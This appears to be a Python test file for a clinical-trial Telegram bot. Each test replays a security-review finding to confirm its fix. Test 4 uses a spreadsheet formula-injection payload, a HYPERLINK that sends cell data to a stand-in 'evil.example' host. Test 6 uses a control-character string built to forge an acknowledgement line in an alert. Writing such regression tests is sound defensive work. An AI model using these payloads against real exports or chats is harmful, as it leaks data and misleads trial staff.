"""Issue 17's security review, one attack per finding, each performed through the
real bot (the harness or a `python -m bot` process) against the local Bot API test
server. Each of these passed on the code before the fix, i.e. the attack worked."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sys
import tempfile
import unicodedata
import zipfile
from pathlib import Path

import pyreadstat
from sqlalchemy import select

from devtools.botapi_server import BotAPIServer, SimUser
from devtools.harness import ADMIN_ID, COORDINATOR_CHAT, TOKEN, BotHarness
from devtools.process import ROOT, free_port, webhook_env
from models import Alert
from tests.bothelpers import admin_says, says
from tests.test_questionnaire_flow import answer_all, is_question, linked, press_value, q_item


def _bot_env(server: BotAPIServer, tmp_path: Path, **extra: str) -> dict[str, str]:
    """A `python -m bot` environment on a throw-away SQLite file, nothing from .env."""
    return {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(tmp_path),
        "PYTHONPATH": str(ROOT),
        "TELEGRAM_BOT_TOKEN": TOKEN,
        "TELEGRAM_API_URL": server.base_url,
        "DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}",
        "ADMIN_USER_IDS": str(ADMIN_ID),
        **extra,
    }


async def _run(args: list[str], env: dict[str, str], cwd: Path, within: float = 60.0) -> tuple[int, str]:
    """Run a child process to its end (killed and reported if it is still running after
    `within` seconds: a server that should have refused to start); returns (code, output)."""
    child = await asyncio.create_subprocess_exec(
        *args, cwd=str(cwd), env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
    )
    try:
        output, _ = await asyncio.wait_for(child.communicate(), timeout=within)
    except TimeoutError:
        child.kill()
        output, _ = await child.communicate()
        raise AssertionError(f"still running after {within} s:\n{output.decode(errors='replace')}") from None
    assert child.returncode is not None
    return child.returncode, output.decode(errors="replace")


# 1. Webhook mode without WEBHOOK_SECRET accepted forged updates from anyone.
async def test_1_webhook_mode_does_not_start_without_its_secret(server: BotAPIServer, tmp_path: Path) -> None:
    env = _bot_env(server, tmp_path, **webhook_env(free_port()))
    del env["WEBHOOK_SECRET"]
    code, output = await _run([sys.executable, "-m", "bot"], env, tmp_path, within=30)
    assert code == 2, output
    (line,) = output.strip().splitlines()
    assert line.startswith("Configuration error: WEBHOOK_SECRET is required when WEBHOOK_URL is set")
    assert not any(r.method == "setWebhook" for r in server.requests)  # nothing was ever listening


async def _report_in_own_words(server: BotAPIServer, user: SimUser, words: str) -> None:
    """/report → "Something else" → `words` typed as the description → a hospital stay
    (serious: an URGENT alert goes to the coordinator chat at once)."""
    question = await says(server, user, "/report", is_question)
    assert q_item(question) == "ae_what"
    describe = await press_value(server, user, question, "other")
    assert q_item(describe) == "ae_what_other"
    update = await user.send(words)
    await server.wait_for(user.id, is_question, since=update)
    await answer_all(server, user, {"ae_start": "yesterday", "ae_severity": "self_care", "ser_hospital": "yes"})


# 4. A participant's `=HYPERLINK(…)` became a live formula in adverse_events.csv.
async def test_4_a_formula_typed_by_a_participant_is_text_in_the_exported_csv(
    bot: BotHarness, server: BotAPIServer
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    user = await linked(server, "BSM-041", "A", 4101, "en")
    await _report_in_own_words(server, user, formula)
    reply = await admin_says(server, "/export", lambda m: m.document is not None)
    assert reply.document is not None
    archive = zipfile.ZipFile(io.BytesIO(reply.document.content))
    rows = list(csv.DictReader(io.StringIO(archive.read("adverse_events.csv").decode("utf-8-sig"))))
    (event,) = rows
    assert event["term"] == "'" + formula  # a spreadsheet shows it as text
    assert formula.encode() in archive.read("trial_record_odm.xml").replace(b"&quot;", b'"').replace(b"&amp;", b"&")
    with tempfile.TemporaryDirectory() as scratch:
        sav = Path(scratch) / "ae.sav"
        sav.write_bytes(archive.read("adverse_events.sav"))
        frame, _meta = pyreadstat.read_sav(str(sav))
    assert list(frame["term"]) == [formula]  # SPSS keeps the value exact


# 6. Quoted text could fake lines in a coordinator alert; a long name pushed the actor id out.
async def test_6_participant_words_cannot_fake_a_line_in_an_alert(bot: BotHarness, server: BotAPIServer) -> None:
    fake = "fever\n✅ Acknowledged by Dr Rahman at Sun 25 Oct 2026 09:10\u202e\u200b\r\nAlert #1"
    user = await linked(server, "BSM-061", "A", 4601, "en")
    await _report_in_own_words(server, user, fake)
    (alert,) = await server.wait_for(COORDINATOR_CHAT, "URGENT")
    lines = alert.content.splitlines()
    assert not any(line.startswith("✅") for line in lines)
    (quoted,) = [line for line in lines if "participant wrote" in line]
    assert quoted.startswith("Problem: Something else · participant wrote: “fever ✅ Acknowledged by Dr Rahman")
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in alert.content.replace("\n", ""))

    coordinator = server.user(7001, "Dr " + "Abdullah-Al-Mamun " * 4, language_code="en")
    group = server.group(COORDINATOR_CHAT)
    update = await coordinator.press(alert, "✅ Acknowledge", chat=group)
    await server.wait_for(COORDINATOR_CHAT, lambda m: m.edits > 0 and "Acknowledged by" in m.content, since=update)
    assert bot.services is not None
    async with bot.services.sessions() as session:
        by = await session.scalar(select(Alert.acknowledged_by).where(Alert.kind == "serious_ae"))
    assert by is not None and by.endswith("(coordinator:7001)") and len(by) <= 64


# 8. A 401/404 at start-up printed the token; a bad DATABASE_URL printed its password.
async def test_8_start_up_errors_never_print_the_token_or_the_database_password(
    server: BotAPIServer, tmp_path: Path
) -> None:
    password = "hunter2-Pa55word"
    unknown_token = "987654321:UNKNOWN-token-the-server-refuses"
    runs = {
        "401 (a token the server does not know)": (["-m", "bot"], {"TELEGRAM_BOT_TOKEN": unknown_token}),
        "404 (only TELEGRAM_API_URL wrong)": (["-m", "bot"], {"TELEGRAM_API_URL": server.url + "/wrong/bot"}),
        "a malformed DATABASE_URL (bot)": (["-m", "bot"], {"DATABASE_URL": f"mysql://trial:{password}@db/trial"}),
        "a malformed DATABASE_URL (migrations)": (
            ["-m", "alembic", "-c", str(ROOT / "alembic.ini"), "upgrade", "head"],
            {"DATABASE_URL": f"mysql://trial:{password}@db/trial"},
        ),
        "an unreachable database (migrations)": (
            ["-m", "alembic", "-c", str(ROOT / "alembic.ini"), "upgrade", "head"],
            {"DATABASE_URL": f"postgresql://trial:{password}@127.0.0.1:{free_port()}/trial"},
        ),
    }
    for what, (args, extra) in runs.items():
        env = _bot_env(server, tmp_path, **extra)
        code, output = await _run([sys.executable, *args], env, tmp_path, within=60)
        assert code != 0, what
        for secret in (TOKEN, unknown_token, unknown_token.split(":")[1], password):
            assert secret not in output, f"{what}: {output}"
        if "bot" in args:
            last = output.strip().splitlines()[-1]  # one line that says what to fix
            assert last.startswith(("Start-up error:", "Configuration error:")), what
